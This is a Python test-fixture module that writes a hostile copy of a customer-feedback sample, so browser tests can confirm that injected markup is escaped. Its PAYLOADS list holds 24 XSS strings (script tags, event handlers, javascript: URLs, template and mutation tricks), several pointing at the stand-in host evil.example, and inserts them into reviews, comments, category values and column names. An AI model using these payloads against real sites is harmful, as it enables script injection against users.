"""A hostile copy of the sample: XSS payloads in review texts, comments, segment, touchpoint and
channel names, and column names. The browser tests build a pack from it and check that nothing
executes and every payload is shown as text."""

from __future__ import annotations

from pathlib import Path

import pandas as pd

from cxkit.sample import generate

#: Each payload is a different way markup could get in: tags, event handlers, URLs, CSS,
#: Markdown, LaTeX/MathJax, templates, and requests to other hosts.
PAYLOADS = [
    "<script>alert('xss01')</script>",
    "<img src=x onerror=alert('xss02')>",
    "<svg onload=alert('xss03')>",
    "<a href=\"javascript:alert('xss04')\">xss04 link</a>",
    "<iframe src=\"javascript:alert('xss05')\"></iframe>",
    "<form action=\"https://evil.example/xss06\"><input name=q></form>",
    "<style>body{display:none} /* xss07 */</style>",
    "\"><script>alert('xss08')</script>",
    "<body onload=alert('xss09')>",
    "<details open ontoggle=alert('xss10')>",
    "<input autofocus onfocus=alert('xss11')>",
    "<object data=\"javascript:alert('xss12')\"></object>",
    "<embed src=\"javascript:alert('xss13')\">",
    "<video><source onerror=\"alert('xss14')\"></video>",
    "<img src=\"https://evil.example/xss15.png\">",
    "<link rel=stylesheet href=\"https://evil.example/xss16.css\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/xss17\">",
    "<base href=\"https://evil.example/xss18/\">",
    "**xss19** [click](javascript:alert('xss19'))",
    "$\\alpha$ $$xss20^2$$ \\(xss20\\)",
    "{{7*7}} ${alert('xss21')} <%= xss21 %>",
    "<marquee onstart=alert('xss22')>xss22</marquee>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('xss23')>",
    "javascript:alert('xss24')",
]

#: A payload used as a column name (a driver rating's name, and an extra column).
COLUMN_PAYLOAD = "<img src=x onerror=alert('col25')>"


def write_hostile_sample(folder: Path, *, scale: float = 0.15, seed: int = 7) -> Path:
    """Write the hostile sample and its catalog into ``folder``; return the catalog path."""
    folder.mkdir(parents=True, exist_ok=True)
    data = generate(seed=seed, scale=scale)
    n = len(PAYLOADS)

    fb = data["feedback"].copy()
    fb.loc[fb.index[: 3 * n], "comment"] = PAYLOADS * 3
    fb.loc[fb.index[: 3 * n], "language"] = "en"
    segments = {s: PAYLOADS[i] for i, s in enumerate(sorted(fb["segment"].dropna().unique()))}
    fb["segment"] = fb["segment"].map(lambda s: segments.get(s, s))
    touchpoints = sorted(fb["touchpoint"].dropna().unique())
    tp_map = {t: PAYLOADS[(i + 3) % n] + f" tp{i}" for i, t in enumerate(touchpoints)}
    fb["touchpoint"] = fb["touchpoint"].map(lambda t: tp_map.get(t, t))
    fb = fb.rename(columns={"staff": COLUMN_PAYLOAD})
    fb["source_note " + PAYLOADS[7]] = "x"
    fb.to_csv(folder / "feedback.csv", index=False)

    rv = data["reviews"].copy()
    rv.loc[rv.index[: 4 * n], "text"] = [f"Terrible service, waste of money. {p}" for p in PAYLOADS] * 2 + \
                                         [f"Great product, love it! {p}" for p in PAYLOADS] * 2
    rv.loc[rv.index[: 4 * n], "title"] = PAYLOADS * 4
    rv.loc[rv.index[: 4 * n], "language"] = "en"
    rv.to_csv(folder / "reviews.csv", index=False)

    cu = data["customers"].copy()
    cu["segment"] = cu["segment"].map(lambda s: segments.get(s, s))
    cu.to_csv(folder / "customers.csv", index=False)

    jo = data["journey"].copy()
    jo["touchpoint"] = jo["touchpoint"].map(lambda t: tp_map.get(t, t))
    if "segment" in jo:
        jo["segment"] = jo["segment"].map(lambda s: segments.get(s, s))
    jo["channel"] = jo["channel"].astype(str) + pd.Series([" " + PAYLOADS[i % n] if i % 7 == 0 else ""
                                                           for i in range(len(jo))], index=jo.index)
    jo.to_csv(folder / "journey.csv", index=False)

    drivers = ["support", "price", "product_quality", "delivery", "ease_of_use", "billing", "app_experience",
               COLUMN_PAYLOAD]
    catalog = {
        "version": 1,
        "defaults": {"max_rejected": 0.05},
        "sources": {
            "feedback": {"table": "feedback", "path": "feedback.csv", "drivers": drivers},
            "reviews": {"table": "reviews", "path": "reviews.csv"},
            "customers": {"table": "customers", "path": "customers.csv"},
            "journey": {"table": "journey", "path": "journey.csv"},
        },
    }
    import yaml

    path = folder / "cxkit.yaml"
    path.write_text(yaml.safe_dump(catalog, allow_unicode=True, sort_keys=False))
    return path
